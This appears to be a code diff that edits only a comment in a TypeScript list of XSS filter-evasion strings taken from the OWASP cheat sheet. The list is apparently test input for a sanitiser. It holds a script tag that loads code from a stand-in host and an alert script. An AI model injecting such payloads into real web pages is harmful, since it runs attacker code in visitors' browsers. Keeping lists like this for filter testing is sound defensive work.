@@ -1,4 +1,4 @@
-/** Attempts from the OWASP XSS Filter Evasion Cheat Sheet and similar lists, one per line. */
+/** XSS attempts from the OWASP XSS Filter Evasion Cheat Sheet and similar lists, one per line. */
 export const EVASIONS: readonly string[] = [
   "<SCRIPT SRC=https://xss.example/xss.js></SCRIPT>",
   "<script>alert(1)</script>",
